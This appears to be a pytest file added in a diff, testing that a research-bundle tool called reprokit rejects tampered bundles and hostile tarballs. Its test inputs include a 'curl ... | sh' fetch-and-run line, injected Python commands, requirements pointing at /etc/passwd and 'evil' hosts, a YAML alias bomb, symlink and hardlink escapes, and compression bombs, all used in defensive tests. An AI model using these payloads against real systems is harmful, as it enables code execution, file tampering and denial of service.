@@ -1,0 +1,262 @@
+"""validate fails closed: a bundle that is not exactly what reprokit writes never gets to
+run anything, and an unpacked tarball stays inside its folder and its caps."""
+
+from __future__ import annotations
+
+import gzip
+import io
+import os
+import shutil
+import tarfile
+from pathlib import Path
+
+import pytest
+
+from reprokit import manifest, sandbox
+from reprokit.bundle import ArchiveSettings, archive, sums
+from reprokit.cli import main
+from reprokit.fsutil import sha256_file
+from reprokit.lock import parse_requirements
+from reprokit.validate import ValidateSettings, validate
+from tests.conftest import RUNNING, write_tree
+from tests.fakeindex import FakeIndex, running
+
+PAPER = {
+    "CITATION.cff": 'cff-version: 1.2.0\nmessage: "cite"\ntitle: "Tiny"\nauthors:\n  - family-names: Doe\n    given-names: Jo\ndate-released: "2024-01-20"\n',
+    "run.py": "import alpha\nif __name__ == '__main__':\n    print(alpha.__version__)\n",
+    "requirements.txt": "alpha\n",
+}
+
+
+@pytest.fixture(scope="module")
+def bundle(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    base = tmp_path_factory.mktemp("safety")
+    index = FakeIndex()
+    index.add("alpha", "1.0", uploaded="2023-06-01T00:00:00Z")
+    paper = write_tree(base / "tiny", PAPER)
+    with running(index) as url:
+        os.environ["UV_CACHE_DIR"] = str(base / "uv")
+        result = archive(ArchiveSettings(python=RUNNING, paper=paper, output=base / "b", offline=True, record_outputs=False,
+                                         index_url=f"{url}/simple/", cache_dir=base / "cache", quiet=True))
+    return result.bundle
+
+
+def copy(bundle: Path, tmp_path: Path) -> Path:
+    b = tmp_path / "b"
+    shutil.copytree(bundle, b, symlinks=True)
+    return b
+
+
+def resign(b: Path, manifest_text: str | None = None) -> None:
+    """Seal a tampered bundle again, as a hostile author would: the manifest's paper
+    digests and SHA256SUMS agree with the files, so only reprokit's rules stand."""
+    if manifest_text is None:
+        data = manifest.read(b / "reprokit.yaml")
+        data["paper_files"] = [{"path": f["path"], "sha256": sha256_file(b / "paper" / f["path"])} for f in data["paper_files"]]
+        manifest_text = manifest.render(data)
+    (b / "reprokit.yaml").write_text(manifest_text)
+    (b / "SHA256SUMS").write_text(sums(b))
+
+
+def problems_of(b: Path, **kw: object) -> list[tuple[str | None, str]]:
+    report = validate(ValidateSettings(bundle=b, **kw))  # type: ignore[arg-type]
+    return [(p.path, p.message) for c in report.checks for p in c.problems]
+
+
+def test_the_untouched_bundle_passes(bundle: Path) -> None:
+    assert problems_of(bundle) == []
+
+
+@pytest.mark.parametrize("line", [
+    "--find-links http://127.0.0.1:9/evil/",
+    "--index-url=http://127.0.0.1:9/simple",
+    "-r /etc/passwd",
+    "evil @ https://127.0.0.1:9/evil-1.0-py3-none-any.whl",
+    "evil @ file:///tmp/outside/evil-1.0.tar.gz",
+    "file:///tmp/outside/evil-1.0.tar.gz",
+    "-e .",
+    "alpha[extra]==1.0",
+    "beta==1.0 ; python_version > '3'",
+])
+def test_anything_but_pins_with_hashes_in_requirements_lock_is_an_integrity_problem(bundle: Path, tmp_path: Path, line: str) -> None:
+    b = copy(bundle, tmp_path)
+    with open(b / "requirements.lock", "a") as fh:
+        fh.write(line + "\n")
+    resign(b)
+    marker = tmp_path / "ran"
+    found = problems_of(b, rebuild="pip")
+    n = len((b / "requirements.lock").read_text().splitlines())
+    assert ("requirements.lock", f"line {n}: {line!r} is not a 'name==version' pin with hashes; reprokit writes nothing else") in found \
+        or any(p == "requirements.lock" and f"line {n}" in m for p, m in found), found
+    report = validate(ValidateSettings(bundle=b, rebuild="pip", rerun=True))
+    assert {c.name: c.skipped for c in report.checks}["rebuild-pip"] == "not run: integrity failed, and nothing of such a bundle runs"
+    assert not report.ok and not marker.exists()
+
+
+def test_requirements_lock_as_reprokit_writes_it_parses_back(bundle: Path) -> None:
+    pins, bad = parse_requirements((bundle / "requirements.lock").read_text())
+    data = manifest.read(bundle / "reprokit.yaml")
+    assert bad == []
+    assert {(p.name, p.version) for p in pins} == {(p["name"], p["version"]) for p in data["packages"]}
+
+
+@pytest.mark.parametrize("path", ["-cimport os; os.system('touch /tmp/pwned')", "missing.py", "run.py/", "CITATION.cff"])
+def test_entry_points_must_be_files_of_the_paper(bundle: Path, tmp_path: Path, path: str) -> None:
+    b = copy(bundle, tmp_path)
+    text = (b / "reprokit.yaml").read_text()
+    data = manifest.read(b / "reprokit.yaml")
+    data["entry_points"] = [{"name": "evil", "kind": "script", "path": path, "outputs": []}]
+    resign(b, manifest.render(data))
+    found = problems_of(b)
+    assert any(p == "reprokit.yaml" and m.startswith(f"entry point {path!r}: ") for p, m in found), found
+    assert text != (b / "reprokit.yaml").read_text()
+
+
+def test_an_entry_point_through_a_symlink_is_refused(bundle: Path, tmp_path: Path) -> None:
+    b = copy(bundle, tmp_path)
+    (b / "paper" / "run.py").unlink()
+    (b / "paper" / "run.py").symlink_to("/etc/hostname")
+    found = problems_of(b, rebuild="pip", rerun=True)
+    assert ("paper/run.py", "is a symlink; bundles hold regular files only") in found
+
+
+def test_a_replaced_verify_py_is_named(bundle: Path, tmp_path: Path) -> None:
+    b = copy(bundle, tmp_path)
+    (b / "verify.py").write_text("import os\nos.system('curl http://127.0.0.1:9 | sh')\n")
+    resign(b)
+    assert ("verify.py", "is not reprokit's verify.py; it may do anything when run: do not run it") in problems_of(b)
+
+
+def test_yaml_aliases_in_the_manifest_are_refused(bundle: Path, tmp_path: Path) -> None:
+    b = copy(bundle, tmp_path)
+    laughs = "".join(f"l{i}: &l{i} [" + ", ".join([f"*l{i - 1}"] * 10) + "]\n" for i in range(1, 10))
+    resign(b, "l0: &l0 lol\n" + laughs + (b / "reprokit.yaml").read_text())
+    found = problems_of(b)
+    assert any(p == "reprokit.yaml" and "anchors and aliases are refused" in m for p, m in found), found
+
+
+def test_without_a_sandbox_nothing_runs_unless_asked(bundle: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(sandbox, "available", lambda: "bubblewrap cannot make a sandbox here: test")
+    report = validate(ValidateSettings(bundle=bundle, rebuild="pip", rerun=True))
+    checks = {c.name: c for c in report.checks}
+    assert not report.ok and checks["sandbox"].ok is False
+    assert "bubblewrap cannot make a sandbox here: test" in checks["sandbox"].problems[0].message
+    assert checks["rebuild-pip"].skipped == "not run: no sandbox" and checks["rerun"].skipped == "not run: no sandbox"
+    assert report.sandbox == ""
+
+
+def test_no_sandbox_is_said_in_the_report(bundle: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    assert main(["validate", str(bundle), "--rebuild", "pip", "--no-sandbox"]) == 0
+    captured = capsys.readouterr()
+    assert "bundle code ran NOT sandboxed (--no-sandbox)" in captured.out
+    assert "--no-sandbox" in captured.err
+
+
+# --- tarballs --------------------------------------------------------------------------
+
+def tar_of(tmp_path: Path, members: list[tuple[tarfile.TarInfo, bytes | None]], name: str = "evil.tar.gz") -> Path:
+    raw = io.BytesIO()
+    with tarfile.open(fileobj=raw, mode="w", format=tarfile.GNU_FORMAT) as tf:
+        for info, data in members:
+            if data is not None:
+                info.size = len(data)
+            tf.addfile(info, io.BytesIO(data) if data is not None else None)
+    out = tmp_path / name
+    out.write_bytes(gzip.compress(raw.getvalue()))
+    return out
+
+
+def member(name: str, **attrs: object) -> tarfile.TarInfo:
+    info = tarfile.TarInfo(name)
+    for k, v in attrs.items():
+        setattr(info, k, v)
+    return info
+
+
+def refused(tgz: Path, capsys: pytest.CaptureFixture[str], *flags: str) -> str:
+    assert main(["validate", str(tgz), *flags]) == 1
+    err = capsys.readouterr().err
+    assert err.startswith(f"error: {tgz}: ") and err.count("\n") == 1
+    return err
+
+
+def test_a_symlink_then_a_file_through_it_writes_nothing_outside(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    tgz = tar_of(tmp_path, [
+        (member("b", type=tarfile.DIRTYPE), None),
+        (member("b/escape", type=tarfile.SYMTYPE, linkname=str(outside)), None),
+        (member("b/escape/pwned.txt"), b"pwned"),
+    ])
+    assert "a link" in refused(tgz, capsys)
+    assert list(outside.iterdir()) == []
+
+
+def test_a_hardlink_to_outside_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    target = tmp_path / "target.txt"
+    target.write_text("keep")
+    tgz = tar_of(tmp_path, [(member("b/hard", type=tarfile.LNKTYPE, linkname=str(target)), None), (member("b/hard"), b"pwned")])
+    assert "a link" in refused(tgz, capsys)
+    assert target.read_text() == "keep"
+
+
+def test_a_member_claiming_gigabytes_is_refused_before_writing(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    raw = io.BytesIO()
+    with tarfile.open(fileobj=raw, mode="w", format=tarfile.GNU_FORMAT) as tf:
+        tf.addfile(member("b/big.bin", size=0))
+    header = bytearray(raw.getvalue())
+    # Claim 6 GiB in the header (octal size field at 124, 12 bytes, checksum redone).
+    header[124:136] = b"%011o\x00" % (6 << 30)
+    header[148:156] = b"        "
+    header[148:156] = b"%06o\x00 " % sum(header[:512])
+    tgz = tmp_path / "sparse.tar.gz"
+    tgz.write_bytes(gzip.compress(bytes(header[:512]) + b"\x00" * 4096))
+    assert "--max-ratio" in refused(tgz, capsys)
+
+
+def test_a_compression_bomb_is_refused_and_the_cap_can_be_raised(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    tgz = tar_of(tmp_path, [(member("b/zeros.bin"), b"\x00" * (8 << 20))])
+    assert "over 200 times its own size" in refused(tgz, capsys)
+    # Raised, the same tarball unpacks (and then fails as no bundle, which is not a cap).
+    assert main(["validate", str(tgz), "--max-ratio", "100000"]) == 1
+    assert "over" not in capsys.readouterr().err
+
+
+def test_file_count_and_depth_are_capped(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    many = tar_of(tmp_path, [(member(f"b/f{i}"), b"x") for i in range(30)], "many.tar.gz")
+    assert "more than 20 members (--max-files)" in refused(many, capsys, "--max-files", "20")
+    deep = tar_of(tmp_path, [(member("b/" + "d/" * 1500 + "f"), b"x")], "deep.tar.gz")
+    assert "over the cap of 64 (--max-depth)" in refused(deep, capsys)
+
+
+# --- nix build: with Nix's sandbox, or not at all -------------------------------------
+
+def fake_nix(tmp_path: Path, stderr: str, code: int) -> Path:
+    """A ``nix`` that records its arguments and answers like Nix would."""
+    bindir = tmp_path / "bin"
+    bindir.mkdir()
+    log = tmp_path / "nix-args"
+    (bindir / "nix").write_text(f"#!/bin/sh\nprintf '%s\\n' \"$*\" >> {log}\n"
+                                f"[ \"$1\" = show-config ] && {{ echo 'sandbox = true'; exit 0; }}\n"
+                                f"printf '%s\\n' {stderr!r} >&2\nexit {code}\n")
+    (bindir / "nix").chmod(0o755)
+    return bindir
+
+
+@pytest.mark.parametrize(("stderr", "code", "expected"), [
+    ("", 0, None),
+    ("warning: ignoring the client-specified setting 'sandbox', because it is a restricted setting and you are not a trusted user", 0,
+     "the Nix daemon ignored 'sandbox = true'"),
+    ("error: sandboxing builds is not supported on this platform", 1, "Nix cannot sandbox builds here"),
+])
+def test_nix_build_runs_sandboxed_or_fails(bundle: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
+                                           stderr: str, code: int, expected: str | None) -> None:
+    monkeypatch.setenv("PATH", f"{fake_nix(tmp_path, stderr, code)}:{os.environ['PATH']}")
+    report = validate(ValidateSettings(bundle=bundle, rebuild="nix"))
+    check = {c.name: c for c in report.checks}["rebuild-nix"]
+    build = [ln for ln in (tmp_path / "nix-args").read_text().splitlines() if ln.startswith("build")]
+    assert build and "--option sandbox true" in build[0]
+    if expected is None:
+        assert check.ok is True and check.details == "Nix sandbox on"
+    else:
+        assert check.ok is False and check.problems[0].message.startswith(expected)
